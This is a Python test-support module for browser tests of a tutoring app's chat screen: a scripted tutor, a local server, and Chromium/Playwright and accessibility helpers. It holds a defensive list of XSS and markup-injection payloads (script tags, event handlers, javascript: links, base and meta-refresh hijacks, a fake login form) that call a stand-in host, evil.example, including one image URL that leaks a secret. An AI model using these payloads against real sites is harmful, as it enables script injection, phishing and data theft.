"""What the tests of the screen share: a tutor that speaks from a script, a real server around it, a real browser in front.

Not mocks: the tutor has the real interface, the server is the real application, and the browser is Chromium.
"""

import os
import shutil
import socket
import threading
import time
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from fastapi import FastAPI
from playwright.sync_api import BrowserContext, Locator, Page, Request, expect, sync_playwright

from corpus.errors import UserError
from tutor.connection import Connection
from tutor.journal import Journal
from tutor.tutor import Tutor
from tutor.types import Citation, Depth, Message, Reply, Status
from tutor.ui.server import server

FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
# What attackers write. Each would call `pwned`, or a host that is not this one, if it were more than text.
PAYLOADS = [
    "<script>pwned()</script>",
    "<ScRiPt/x>pwned()</sCrIpT>",
    "<img src=x onerror=pwned()>",
    "<img src=x onerror=&#112;wned()//",
    "<svg onload=pwned()>",
    "<svg><image href=https://evil.example/a.png></svg>",
    "<svg><script>pwned()</script></svg>",
    "<svg><animate onbegin=pwned() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
    "<iframe src=https://evil.example></iframe>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwned()&gt;'>",
    "<details open ontoggle=pwned()>x</details>",
    "<input autofocus onfocus=pwned()>",
    "<form action=https://evil.example><input name=q><button>Log in</button></form>",
    "<input type=password placeholder='Your password'>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example/b.png)'>x</div>",
    "<style>body{background:url(https://evil.example/c.png)}</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/d.css>",
    "<video src=https://evil.example/e.mp4 autoplay onerror=pwned()></video><audio src=https://evil.example/f.mp3>",
    "<img srcset='https://evil.example/g.png 1x'><picture><source srcset=https://evil.example/h.png></picture>",
    "<a href=javascript:pwned()>x</a>",
    "<body onload=pwned()>",
    "<template><img src=x onerror=pwned()></template>",
    "[x](javascript:pwned())",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+)",
    "[x](vbscript:pwned())",
    "[x](&#106;avascript:pwned())",
    "[x](java\tscript:pwned())",
    "[x](https://evil.example 'a\" onmouseover=\"pwned()')",
    "![x](https://evil.example/?q=SECRET)",
    "![x][r]\n\n[r]: https://evil.example/i.png",
    '![x](x" onerror="pwned())',
    '<https://evil.example/"onmouseover=pwned()>',
    "\\(\\href{javascript:pwned()}{x}\\) $$\\htmlData{x=y}{\\url{javascript:pwned()}}$$",
    "\\(<img src=x onerror=pwned()>\\)",
    "\\[\\includegraphics{https://evil.example/j.png}\\]",
    "```mermaid\ngraph TD; a-->b; click a href 'javascript:pwned()'\n```",
    "`<img src=x onerror=pwned()>` ``` <script>pwned()</script>",
    "</div></details></section><script>pwned()</script>",
    "&lt;script&gt;pwned()&lt;/script&gt;",
    "%%%LATEX_BLOCK_0%%% $$<script>pwned()</script>$$",
    "{{constructor.constructor('pwned()')()}} ${pwned()}",
    "\ue000<script>pwned()</script>\ue001",
]
ENGINE = "Offline engine: quotes your documents word for word, no language model"


@dataclass
class Heard:
    """What a scripted tutor was asked, and how often it was stopped before its end."""

    questions: list[str] = field(default_factory=list)
    histories: list[tuple[Message, ...]] = field(default_factory=list)
    depths: list[Depth] = field(default_factory=list)
    stopped: int = 0


class ScriptedTutor(Tutor):
    """Says what its script has for a question, one step after another; a step may be an error."""

    def __init__(
        self,
        script: dict[str, Sequence[Reply | Exception]],
        examples: Sequence[str] = (),
        *,
        pace_s: float = 0.02,
        journal: Journal | None = None,
        connection: Connection | None = None,
    ) -> None:
        self.script, self.pace_s = script, pace_s
        self.heard = Heard()
        self.now = Status(ready=True, text="Ready", share=1.0)
        self.shown_examples = tuple(examples)
        self.name = ENGINE
        self.unread: tuple[str, ...] = ()
        self.journal = journal or Journal(None)
        self.connection = connection or Connection(None)
        self._ready = threading.Event()
        self._ready.set()
        self._opening = threading.Lock()
        self._prepared = None
        self._status = Status(ready=False, text="There is only a script")

    def status(self) -> Status:
        return self.now

    def wait(self, timeout_s: float | None = None) -> bool:
        return self._ready.wait(timeout_s) and self.now.ready

    def be(self, status: Status) -> None:
        """Changes the status, as getting ready does."""
        self.now = status
        (self._ready.set if status.ready or status.problem else self._ready.clear)()

    def ask(self, question: str, history: Sequence[Message] = (), depth: Depth = "interview", learner: str = "") -> Iterator[Reply]:  # noqa: ARG002  # as Tutor.ask
        self.heard.questions.append(question)
        self.heard.histories.append(tuple(history))
        self.heard.depths.append(depth)
        self._ready.wait(60)
        if self.now.problem:
            raise UserError(self.now.problem)
        try:
            for step in self.script[question]:
                time.sleep(self.pace_s)
                if isinstance(step, Exception):
                    raise step
                yield step
        except GeneratorExit:
            self.heard.stopped += 1
            raise

    def examples(self) -> tuple[str, ...]:
        return self.shown_examples if self.now.ready else ()

    @property
    def engine(self) -> str:
        return self.name

    @property
    def problems(self) -> tuple[str, ...]:
        return self.unread


def growing(answer: str, *, citations: Sequence[Citation] = (), follow_ups: Sequence[str] = (), steps: int = 8) -> list[Reply]:
    """An answer in `steps` steps, the last of them complete."""
    cuts = [len(answer) * step // steps for step in range(1, steps)]
    parts = [Reply(answer[:cut], True, ENGINE, complete=False) for cut in cuts]
    return [*parts, Reply(answer, True, ENGINE, tuple(citations), tuple(follow_ups))]


def cited(n: int, passage: str, sentence: str, *, file: str = "retrieval.md", question: str = "What is RAG?") -> Citation:
    """A citation of a sentence of a passage, as if the passage were the document."""
    start = passage.index(sentence)
    end = start + len(sentence)
    return Citation(n, file, question, sentence, start, end, passage, start, end)


def free_port() -> int:
    """A port that nobody listens on."""
    with socket.socket() as found:
        found.bind(("127.0.0.1", 0))
        port: int = found.getsockname()[1]
        return port


@contextmanager
def serving(app: FastAPI) -> Iterator[str]:
    """The real server on a free port; gives its address."""
    port = free_port()
    running = server(app, "127.0.0.1", port)
    thread = threading.Thread(target=running.run, daemon=True)
    thread.start()
    while not running.started:
        assert thread.is_alive(), "the server did not start"
        time.sleep(0.02)
    try:
        yield f"http://127.0.0.1:{port}"
    finally:
        running.should_exit = True
        thread.join(40)


def chromium() -> str:
    """Where Chromium is. Without one the test is skipped, or fails where VIVA_REQUIRE_BROWSER=1 says that there must be one."""
    names = ("chromium", "chromium-browser", "google-chrome")
    found = os.environ.get("VIVA_CHROMIUM") or next(filter(None, map(shutil.which, names)), None)
    if found and Path(found).exists():
        return found
    if os.environ.get("VIVA_REQUIRE_BROWSER") == "1":
        pytest.fail("VIVA_REQUIRE_BROWSER=1, but no Chromium was found. Install one or set VIVA_CHROMIUM to it.")
    pytest.skip("no Chromium found (looked at VIVA_CHROMIUM and for chromium, chromium-browser, google-chrome)")


@dataclass
class Seen:
    """What went on in a browser: where requests went, what the console said in anger."""

    hosts: set[str] = field(default_factory=set)
    urls: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)

    def request(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in ("http", "https", "ws", "wss"):
            self.hosts.add(str(parts.hostname))
            self.urls.append(request.url)


@contextmanager
def launch(*flags: str, **context: Any) -> Iterator[tuple[BrowserContext, Seen]]:  # Playwright's own options
    """A fresh Chromium and a watch on all that it asks for. `context` is what `Browser.new_context` takes, `flags` are Chromium's."""
    path = chromium()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=path, headless=True, args=[*FLAGS, *flags])
        opened = browser.new_context(**{"locale": "en-GB", **context})
        seen = Seen()
        opened.on("request", seen.request)
        opened.on("weberror", lambda error: seen.errors.append(str(error.error)))
        opened.set_default_timeout(30_000)
        expect.set_options(timeout=15_000)  # a busy machine is no fault of the screen
        try:
            yield opened, seen
        finally:
            opened.close()
            browser.close()


def open_page(context: BrowserContext, address: str) -> Page:
    """The screen in a new tab, ready to be typed into."""
    page = context.new_page()
    page.goto(address)
    page.locator("#viva-question textarea").wait_for(timeout=60_000)
    page.locator("html[data-viva]").wait_for(state="attached")
    return page


def box(page: Page) -> Locator:
    return page.get_by_label("Your question")


def ask(page: Page, question: str) -> None:
    box(page).fill(question)
    box(page).press("Enter")


def answers(page: Page) -> Locator:
    return page.locator(".viva-turn")


def answered(page: Page, question: str = "What is a pan?") -> Locator:
    """Asks and waits for the whole answer."""
    before = answers(page).count()
    ask(page, question)
    turn = answers(page).nth(before)
    expect(turn.locator(".viva-actions")).to_be_visible()
    return turn


def sticks_out(controls: Locator, width: int, within_s: float = 5) -> list[str]:
    """The controls that reach beyond a page of `width` pixels once what slides on it has come to rest. All are measured at once,
    since the page may redraw between two questions."""
    measured = "all => all.map(e => [e.outerHTML.slice(0, 80), e.getBoundingClientRect()]).map(([e, b]) => [e, b.left, b.right])"
    end = time.monotonic() + within_s
    while True:
        edges = controls.evaluate_all(measured)
        assert edges
        out = [name for name, left, right in edges if left < 0 or right > width]
        if not out or time.monotonic() > end:
            return out
        controls.page.wait_for_timeout(100)


def fits(page: Page) -> bool:
    """Whether nothing has to be scrolled sideways."""
    widths = (
        "[...document.querySelectorAll('html, #viva-main, #viva-side, #viva-chat [role=log]')].every(e => e.scrollWidth <= e.clientWidth)"
    )
    return bool(page.evaluate(widths))


def axe(page: Page) -> list[str]:
    """What axe-core holds against the page that is serious or critical."""
    import axe_playwright_python

    script = next(Path(axe_playwright_python.__file__).parent.rglob("axe.min.js")).read_text("utf-8")
    page.evaluate(script)
    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")
    return [
        f"{fault['impact']} {fault['id']}: {node['html'][:160]}"
        for fault in found["violations"]
        if fault["impact"] in ("serious", "critical")
        for node in fault["nodes"]
    ]
